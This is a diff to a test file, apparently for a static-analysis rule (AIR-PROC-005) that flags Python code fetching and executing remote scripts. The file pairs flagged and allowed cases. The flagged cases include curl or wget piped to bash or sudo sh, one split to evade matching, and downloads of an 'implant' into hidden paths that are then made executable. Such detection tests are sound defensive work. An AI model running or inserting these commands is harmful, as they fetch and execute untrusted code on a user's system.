@@ -56,6 +56,14 @@ os.system("curl -fsSL http://203.0.113.7/i.sh | bash")
 subprocess.run("wget -qO- https://example.net/x | sudo sh", shell=True)
 # ruleid: AIR-PROC-005
 cmd = "cu" + "rl -s https://example.net/a.sh | b" + "ash"
+# ruleid: AIR-PROC-005
+os.system("curl -s http://203.0.113.7/x -o /tmp/x; chmod +x /tmp/x; /tmp/x")
+# ruleid: AIR-PROC-005
+os.system("wget -q http://203.0.113.7/implant --output-document=/dev/shm/.k && chmod 755 /dev/shm/.k")
+# ok: AIR-PROC-005
+os.system("curl -sSL https://example.org/data.csv -o data.csv && wc -l data.csv")
+# ok: AIR-PROC-005
+os.system("wget -O report.pdf https://example.org/r.pdf; chmod 644 report.pdf")
 # ok: AIR-PROC-005
 note = "download with curl -O and inspect the file before running it"
 
